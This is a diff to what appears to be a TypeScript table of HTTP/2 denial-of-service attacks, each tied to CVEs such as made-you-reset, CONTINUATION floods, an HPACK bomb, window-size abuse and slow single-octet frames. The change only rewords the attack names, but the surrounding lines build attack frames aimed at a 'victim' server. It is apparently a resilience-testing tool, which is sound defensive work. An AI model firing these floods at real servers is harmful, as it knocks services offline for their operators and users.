@@ -224,7 +224,7 @@ export const attacks: readonly Attack[] = [
         Buffer.concat([head(streamOf(round, i), victim, '/version'), frame(types.windowUpdate, 0, streamOf(round, i), uint32(0))]),
       ),
   }),
-  flood('made-you-reset by DATA behind the end', ['CVE-2025-8671'], {
+  flood('made-you-reset by DATA after END_STREAM', ['CVE-2025-8671'], {
     octets: 8 * megabyte,
     reads: true,
     next: (round, victim) =>
@@ -232,7 +232,7 @@ export const attacks: readonly Attack[] = [
         Buffer.concat([head(streamOf(round, i), victim, '/version'), frame(types.data, 0, streamOf(round, i), Buffer.from('d'))]),
       ),
   }),
-  flood('malformed requests, of which the resets are not read', ['CVE-2019-9514'], {
+  flood('malformed requests without reading the resets', ['CVE-2019-9514'], {
     octets: 8 * megabyte,
     next: (round) =>
       repeat(perRound, (i) => frame(types.headers, flag.endHeaders | flag.endStream, streamOf(round, i), Buffer.from([0x82, 0x87]))),
@@ -246,12 +246,12 @@ export const attacks: readonly Attack[] = [
     first: openBlock,
     next: () => repeat(2_000, () => frame(types.continuation, 0, 1)),
   }),
-  flood('large CONTINUATION without end', ['CVE-2024-27316', 'CVE-2023-45288'], {
+  flood('endless large CONTINUATION', ['CVE-2024-27316', 'CVE-2023-45288'], {
     octets: 64 * megabyte,
     first: openBlock,
     next: (round) => frame(types.continuation, 0, 1, block([[`x-${round}`, 'v'.repeat(16_000)]])),
   }),
-  flood('header blocks whose connection ends within them', ['CVE-2024-27983'], {
+  flood('connections that end within a header block', ['CVE-2024-27983'], {
     octets: 4 * megabyte,
     first: openBlock,
     next: (round) => {
@@ -284,7 +284,7 @@ export const attacks: readonly Attack[] = [
       ),
   }),
   flood('HPACK bomb', ['CVE-2016-6581', 'CVE-2016-1544'], { octets: 4 * megabyte, next: bomb }),
-  flood('names of fields that are never the same', ['CVE-2022-41717'], {
+  flood('field names that never repeat', ['CVE-2022-41717'], {
     next: (round, victim) =>
       head(
         1 + 2 * round,
@@ -294,7 +294,7 @@ export const attacks: readonly Attack[] = [
       ),
     reads: true,
   }),
-  flood('a string of HPACK that comes octet by octet', ['CVE-2022-41723'], {
+  flood('an HPACK string in single octets', ['CVE-2022-41723'], {
     first: (victim) =>
       Buffer.concat([
         openBlock(victim),
@@ -302,14 +302,14 @@ export const attacks: readonly Attack[] = [
       ]),
     next: () => repeat(1_000, () => frame(types.continuation, 0, 1, Buffer.from([0x1f]))),
   }),
-  unreadLists('lists to a window of 0', ['CVE-2019-9511', 'CVE-2019-9517'], (round) => {
+  unreadLists('lists with a window of 0', ['CVE-2019-9511', 'CVE-2019-9517'], (round) => {
     void round;
     return frame(types.ping, 0, 0, Buffer.alloc(8));
   }),
-  unreadLists('lists to a window that grows by an octet', ['CVE-2019-9511'], () =>
+  unreadLists('lists with a window that grows by single octets', ['CVE-2019-9511'], () =>
     repeat(10, (i) => frame(types.windowUpdate, 0, 1 + 2 * i, uint32(1))),
   ),
-  flood('lists over an open window that is not read', ['CVE-2019-9517'], {
+  flood('unread lists with an open window', ['CVE-2019-9517'], {
     connections: 10,
     octets: megabyte,
     first: () => Buffer.concat([settings([setting.initialWindowSize, 0x7fffffff]), frame(types.windowUpdate, 0, 0, uint32(0x7fff0000))]),
@@ -344,7 +344,7 @@ export const attacks: readonly Attack[] = [
   ),
   idle('silent TCP connections', 500, silentTcp),
   idle('silent TLS connections', 250, connectTls),
-  idle('a frame that comes octet by octet', 250, connectTls, (socket, round) => {
+  idle('a frame in single octets', 250, connectTls, (socket, round) => {
     const bytes = Buffer.concat([preface, frame(types.headers, flag.endStream, 1, block(pseudo('GET', '/')))]);
     socket.write(bytes.subarray(round * 2, round * 2 + 2));
   }),
